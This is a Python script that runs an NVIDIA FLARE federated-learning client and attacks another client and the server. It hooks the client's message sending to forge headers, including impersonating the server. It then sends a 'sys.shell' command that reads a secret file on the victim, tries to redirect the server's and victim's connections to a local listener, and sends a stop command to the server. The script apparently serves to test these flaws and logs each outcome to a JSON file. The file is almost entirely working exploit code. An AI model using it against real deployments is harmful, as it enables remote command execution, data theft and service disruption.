"""A silo that runs FLARE as it comes, and attacks another silo and the server.

Words: KIT NAME VICTIM SECRET ANSWERS. ANSWERS gets one JSON line [attack, return code, answer]
each; the last attack is called "done".
"""

from __future__ import annotations

import json
import runpy
import socket
import sys
import threading
import time
import traceback
from pathlib import Path

import nvflare.fuel.utils.log_utils  # noqa: F401 - before two threads import it at once

kit, name, victim, secret, answers = sys.argv[1:]


def note(attack: str, code: object = "", answer: object = "") -> None:
    with Path(answers).open("a") as file:
        file.write(json.dumps([attack, str(code), str(answer)]) + "\n")


def attack() -> None:
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell
    from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
    from nvflare.fuel.f3.message import Message as CellMessage
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import new_cell_message

    while not (core := CoreCell.ALL_CELLS.get(name)) or not core.running:
        time.sleep(0.3)
    send, forged = core._send_to_endpoint, {}

    def forging(endpoint, message, *args, **kwargs):
        message.remove_header(MessageHeaderKey.SERVER_TRANSIT_REQUIRED)
        message.add_headers(forged)
        return send(endpoint, message, *args, **kwargs)

    core._send_to_endpoint = forging

    def ask(target, channel, topic, request):
        reply = core.send_request(
            channel=channel, topic=topic, target=target, request=request, timeout=3
        )
        return reply.get_header("cn__return_code"), getattr(reply.payload, "body", reply.payload)

    def diagnosis(target, topic, headers=()):
        return ask(target, "_net_manager", topic, CellMessage(dict(headers), None))

    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if diagnosis("server", "echo")[0] in {"ok", "process_exception"}:
                break
        except RuntimeError:  # not connected yet
            pass
        time.sleep(0.3)
    note("config", *diagnosis("server", "config_vars"))
    command = new_cell_message({}, Message("sys.shell", f"cat {secret}"))
    note("shell", *ask(victim, CellChannel.CLIENT_MAIN, "sys.shell", command))
    forged[MessageHeaderKey.ORIGIN] = "server"
    note("shell as the server", *ask(victim, CellChannel.CLIENT_MAIN, "sys.shell", command))
    del forged[MessageHeaderKey.ORIGIN]
    for target in ("server", victim):
        with socket.socket() as listener:
            listener.bind(("127.0.0.1", 0))
            listener.listen()
            listener.settimeout(3)
            url = f"tcp://127.0.0.1:{listener.getsockname()[1]}"
            forged[MessageHeaderKey.FROM_CELL] = "elsewhere"
            diagnosis(target, "echo", {MessageHeaderKey.CONN_URL: url})
            del forged[MessageHeaderKey.FROM_CELL]
            try:
                listener.accept()
                note(f"address to {target}", "connected")
            except TimeoutError:
                note(f"address to {target}", "nobody came")
    note("stop", *diagnosis("server", "stop_cell"))


def go() -> None:
    try:
        attack()
    except BaseException:
        note("failed", "", traceback.format_exc())
    note("done")


threading.Thread(target=go, daemon=True).start()
module = "nvflare.private.fed.app.client.client_train"
sys.argv = [module, "-m", kit, "-s", "fed_client.json", "--set", "secure_train=true"]
sys.argv += [f"uid={name}", f"org={name.replace('-', '_')}", "config_folder="]
runpy.run_module(module, run_name="__main__", alter_sys=True)
